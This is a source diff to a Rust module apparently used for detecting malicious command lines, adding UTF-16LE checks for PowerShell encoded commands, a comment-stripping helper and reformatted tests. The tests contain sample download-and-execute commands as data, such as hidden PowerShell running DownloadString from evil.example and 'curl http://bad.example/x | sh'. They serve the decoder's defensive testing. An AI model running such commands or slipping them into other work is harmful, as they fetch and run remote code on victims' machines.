@@ -65,7 +65,9 @@ pub fn dirname(path: &str) -> &str {
 /// Case-insensitive "contains any of".
 pub fn contains_any(haystack: &str, needles: &[String]) -> bool {
     let h = haystack.to_lowercase();
-    needles.iter().any(|n| !n.is_empty() && h.contains(&n.to_lowercase()))
+    needles
+        .iter()
+        .any(|n| !n.is_empty() && h.contains(&n.to_lowercase()))
 }
 
 /// Splits a command line into arguments, Windows-style quoting (also right for simple POSIX
@@ -148,13 +150,21 @@ pub fn bytes_to_text(b: &[u8]) -> Option<String> {
     if b.len() >= 4 && b.len() % 2 == 0 {
         let zeros = b.iter().skip(1).step_by(2).filter(|x| **x == 0).count();
         if zeros * 10 >= (b.len() / 2) * 7 {
-            let units: Vec<u16> = b.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect();
+            let units: Vec<u16> = b
+                .chunks_exact(2)
+                .map(|c| u16::from_le_bytes([c[0], c[1]]))
+                .collect();
             let s = String::from_utf16_lossy(&units);
             return printable(&s).then_some(s);
         }
     }
     let s = String::from_utf8_lossy(b).into_owned();
     printable(&s).then_some(s)
+}
+
+fn looks_utf16le(b: &[u8]) -> bool {
+    b.len() >= 4
+        && b.iter().skip(1).step_by(2).filter(|x| **x == 0).count() * 10 >= (b.len() / 2) * 7
 }
 
 fn printable(s: &str) -> bool {
@@ -195,7 +205,9 @@ fn inflate(b: &[u8]) -> Option<Vec<u8>> {
         }
         return raw(b.get(i..)?, MAX_DECODED).ok();
     }
-    raw(b, MAX_DECODED).ok().or_else(|| zlib(b, MAX_DECODED).ok())
+    raw(b, MAX_DECODED)
+        .ok()
+        .or_else(|| zlib(b, MAX_DECODED).ok())
 }
 
 static B64_RUN: LazyLock<Regex> =
@@ -211,10 +223,14 @@ pub fn decode_layer(text: &str) -> Vec<String> {
         }
     };
     // Encoded-command switches: the argument after `-e`, `-enc`, `-EncodedCommand`, `-ec`, ...
+    // PowerShell always encodes these as UTF-16LE; other interpreters' `-e` means "execute".
     let args = split_args(text);
     for w in args.windows(2) {
         if is_encoded_switch(&w[0]) {
-            if let Some(s) = b64_bytes(&w[1]).and_then(|b| bytes_to_text(&b)) {
+            if let Some(s) = b64_bytes(&w[1])
+                .filter(|b| looks_utf16le(b))
+                .and_then(|b| bytes_to_text(&b))
+            {
                 push(s, &mut out);
             }
         }
@@ -229,7 +245,9 @@ pub fn decode_layer(text: &str) -> Vec<String> {
         if !(has_upper && has_lower && (has_digit || run.len() >= 40)) {
             continue;
         }
-        let Some(bytes) = b64_bytes(run) else { continue };
+        let Some(bytes) = b64_bytes(run).filter(|b| b.len() >= 12) else {
+            continue;
+        };
         if let Some(s) = bytes_to_text(&bytes) {
             push(s, &mut out);
         } else if let Some(s) = inflate(&bytes).and_then(|b| bytes_to_text(&b)) {
@@ -293,6 +311,33 @@ pub fn deobfuscate(text: &str) -> String {
     WS.replace_all(&s.to_lowercase(), " ").into_owned()
 }
 
+/// Removes comments so that indicators named only in documentation (`<# .EXAMPLE … #>`, `# …`,
+/// `REM …`, `' …`, `// …`) are not mistaken for what the script does.
+pub fn strip_comments(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(i) = rest.find("<#") {
+        out.push_str(&rest[..i]);
+        match rest[i + 2..].find("#>") {
+            Some(j) => rest = &rest[i + 2 + j + 2..],
+            None => {
+                rest = "";
+            }
+        }
+    }
+    out.push_str(rest);
+    out.lines()
+        .filter(|l| {
+            let t = l.trim_start();
+            !(t.starts_with('#')
+                || t.starts_with("//")
+                || t.starts_with('\'')
+                || t.to_ascii_lowercase().starts_with("rem "))
+        })
+        .collect::<Vec<_>>()
+        .join("\n")
+}
+
 /// Share of characters that are obfuscation punctuation (`^`, `` ` ``, `+`, quotes) — cmd
 /// DOSfuscation and Invoke-Obfuscation drive this up; normal command lines stay low.
 pub fn obfuscation_ratio(text: &str) -> f64 {
@@ -300,7 +345,10 @@ pub fn obfuscation_ratio(text: &str) -> f64 {
     if n == 0 {
         return 0.0;
     }
-    let k = text.chars().filter(|c| matches!(c, '^' | '`' | '+' | '\'' | '"' | '{' | '}')).count();
+    let k = text
+        .chars()
+        .filter(|c| matches!(c, '^' | '`' | '+' | '\'' | '"' | '{' | '}'))
+        .count();
     k as f64 / n as f64
 }
 
@@ -379,7 +427,9 @@ pub fn ips(text: &str) -> Vec<String> {
 /// True for a syntactically valid IP that is routable on the internet: not private, loopback,
 /// link-local, CGNAT, multicast, documentation, benchmarking, broadcast or unspecified.
 pub fn is_public_ip(ip: &str) -> bool {
-    let Ok(ip) = ip.trim().parse::<IpAddr>() else { return false };
+    let Ok(ip) = ip.trim().parse::<IpAddr>() else {
+        return false;
+    };
     match ip {
         IpAddr::V4(v4) => public_v4(v4),
         IpAddr::V6(v6) => {
@@ -415,7 +465,9 @@ fn public_v4(v4: std::net::Ipv4Addr) -> bool {
 
 /// True when `ip` is inside any of the CIDRs (or equal to a bare address in the list).
 pub fn ip_in(ip: &str, cidrs: &[String]) -> bool {
-    let Ok(addr) = ip.trim().parse::<IpAddr>() else { return false };
+    let Ok(addr) = ip.trim().parse::<IpAddr>() else {
+        return false;
+    };
     cidrs.iter().any(|c| {
         c.parse::<ipnet::IpNet>()
             .map(|n| n.contains(&addr))
@@ -428,7 +480,11 @@ pub fn ip_in(ip: &str, cidrs: &[String]) -> bool {
 pub fn domain_in(domain: &str, list: &[String]) -> bool {
     let d = domain.trim().trim_end_matches('.').to_ascii_lowercase();
     list.iter().any(|e| {
-        let e = e.trim().trim_start_matches("*.").trim_end_matches('.').to_ascii_lowercase();
+        let e = e
+            .trim()
+            .trim_start_matches("*.")
+            .trim_end_matches('.')
+            .to_ascii_lowercase();
         !e.is_empty() && (d == e || d.ends_with(&format!(".{e}")))
     })
 }
@@ -450,7 +506,10 @@ mod tests {
     #[test]
     fn decodes_encoded_command_with_any_switch_prefix() {
         for sw in ["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-ENCOD"] {
-            let cmd = format!("powershell.exe -nop -w hidden {sw} {}", enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"));
+            let cmd = format!(
+                "powershell.exe -nop -w hidden {sw} {}",
+                enc("IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')")
+            );
             let d = decoded(&cmd);
             assert!(d.contains("DownloadString"), "{sw}: {d}");
         }
@@ -460,14 +519,20 @@ mod tests {
 
     #[test]
     fn decodes_nested_frombase64_and_gzip() {
-        let inner = base64::engine::general_purpose::STANDARD.encode("Invoke-WebRequest http://203.0.113.9/p.ps1");
-        let outer = enc(&format!("IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"));
+        let inner = base64::engine::general_purpose::STANDARD
+            .encode("Invoke-WebRequest http://203.0.113.9/p.ps1");
+        let outer = enc(&format!(
+            "IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{inner}')))"
+        ));
         let d = decoded(&format!("powershell -enc {outer}"));
         assert!(d.contains("FromBase64String"));
         assert!(d.contains("http://203.0.113.9/p.ps1"), "{d}");
         // gzip
         let mut gz = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
-        gz.extend(miniz_oxide::deflate::compress_to_vec(b"curl http://bad.example/x | sh; echo done done done", 6));
+        gz.extend(miniz_oxide::deflate::compress_to_vec(
+            b"curl http://bad.example/x | sh; echo done done done",
+            6,
+        ));
         gz.extend([0u8; 8]);
         let b = base64::engine::general_purpose::STANDARD.encode(&gz);
         assert!(decoded(&format!("FromBase64String('{b}') GzipStream")).contains("bad.example"));
@@ -483,6 +548,12 @@ mod tests {
     }
 
     #[test]
+    fn comments_are_not_evidence() {
+        let t = "<#\n.EXAMPLE\n iwr https://foo.example/x\n#>\n# see http://doc.example\niwr http://real.example/p";
+        assert_eq!(urls(&strip_comments(t)), vec!["http://real.example/p"]);
+    }
+
+    #[test]
     fn deobfuscation() {
         assert!(deobfuscate("p^o^w^e^r^s^h^e^l^l").contains("powershell"));
         assert!(deobfuscate("(New-Object 'Ne'+'t.We'+'bClient')").contains("net.webclient"));
@@ -493,14 +564,37 @@ mod tests {
     #[test]
     fn extracts_indicators() {
         let t = "iwr http://198.51.100.7:8080/a.ps1; curl https://raw.githubusercontent.com/x/y.sh|bash; v10.0.17763.1 8.8.8.8";
-        assert_eq!(urls(t), vec!["http://198.51.100.7:8080/a.ps1", "https://raw.githubusercontent.com/x/y.sh"]);
+        assert_eq!(
+            urls(t),
+            vec![
+                "http://198.51.100.7:8080/a.ps1",
+                "https://raw.githubusercontent.com/x/y.sh"
+            ]
+        );
         assert_eq!(ips(t), vec!["198.51.100.7", "8.8.8.8"]);
-        assert_eq!(url_host("https://user@Host.Example:443/p").as_deref(), Some("host.example"));
+        assert_eq!(
+            url_host("https://user@Host.Example:443/p").as_deref(),
+            Some("host.example")
+        );
     }
 
     #[test]
     fn ip_classes() {
-        for ip in ["10.1.2.3", "172.16.0.1", "192.168.1.1", "127.0.0.1", "169.254.1.1", "100.64.0.1", "::1", "fe80::1", "fd00::1", "224.0.0.1", "0.0.0.0", "255.255.255.255", "198.51.100.1"] {
+        for ip in [
+            "10.1.2.3",
+            "172.16.0.1",
+            "192.168.1.1",
+            "127.0.0.1",
+            "169.254.1.1",
+            "100.64.0.1",
+            "::1",
+            "fe80::1",
+            "fd00::1",
+            "224.0.0.1",
+            "0.0.0.0",
+            "255.255.255.255",
+            "198.51.100.1",
+        ] {
             assert!(!is_public_ip(ip), "{ip}");
         }
         for ip in ["8.8.8.8", "151.101.208.133", "2606:4700::1111"] {
@@ -508,8 +602,14 @@ mod tests {
         }
         assert!(ip_in("10.2.3.4", &["10.0.0.0/8".into()]));
         assert!(!ip_in("11.2.3.4", &["10.0.0.0/8".into()]));
-        assert!(domain_in("raw.githubusercontent.com", &["githubusercontent.com".into()]));
-        assert!(!domain_in("evilgithubusercontent.com", &["githubusercontent.com".into()]));
+        assert!(domain_in(
+            "raw.githubusercontent.com",
+            &["githubusercontent.com".into()]
+        ));
+        assert!(!domain_in(
+            "evilgithubusercontent.com",
+            &["githubusercontent.com".into()]
+        ));
     }
 
     #[test]
@@ -517,6 +617,9 @@ mod tests {
         assert_eq!(basename(r"C:\Windows\System32\cmd.exe"), "cmd.exe");
         assert_eq!(basename("/usr/bin/python3"), "python3");
         assert_eq!(dirname(r"C:\Users\bob\a.vbs"), r"C:\Users\bob");
-        assert_eq!(split_args(r#""C:\Program Files\x.exe" -a "b c" d"#), vec![r"C:\Program Files\x.exe", "-a", "b c", "d"]);
+        assert_eq!(
+            split_args(r#""C:\Program Files\x.exe" -a "b c" d"#),
+            vec![r"C:\Program Files\x.exe", "-a", "b c", "d"]
+        );
     }
 }
